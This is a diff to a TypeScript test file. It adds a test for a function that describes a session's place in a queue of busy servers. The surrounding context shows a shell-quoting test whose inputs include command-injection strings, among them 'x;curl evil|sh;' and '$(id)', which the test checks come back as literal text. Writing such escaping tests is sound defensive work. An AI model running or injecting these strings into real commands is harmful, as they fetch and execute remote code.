@@ -3,6 +3,7 @@ import { execFileSync } from "node:child_process";
 import { describe, expect, it } from "vitest";
 
 import { AppError, explain, friendlyError } from "../../src/lib/errors";
+import { describeQueued } from "../../src/lib/progress";
 import { checkPolicy, recoveryPossible, recoveryRefusal } from "../../src/lib/policy";
 import { shellWord } from "../../src/lib/shell";
 
@@ -92,5 +93,13 @@ describe("shellWord", () => {
     for (const w of ["x;curl evil|sh;", "x --out ~/.bashrc", "$(id) `id` \\ \"q\"", "it's", "a\nb", ""]) {
       expect(execFileSync("sh", ["-c", `printf '%s' ${shellWord(w)}`], { encoding: "utf8" })).toBe(w);
     }
+  });
+});
+
+describe("describeQueued", () => {
+  it("says a session waits its turn, and where", () => {
+    expect(describeQueued(undefined)).toBe("");
+    expect(describeQueued({ position: 1, parties: ["server-2"] })).toBe("A server party is busy with other sessions; this one is next in line.");
+    expect(describeQueued({ position: 3, parties: ["server-1", "server-2"] })).toBe("2 server parties are busy with other sessions; this one is number 3 in line.");
   });
 });
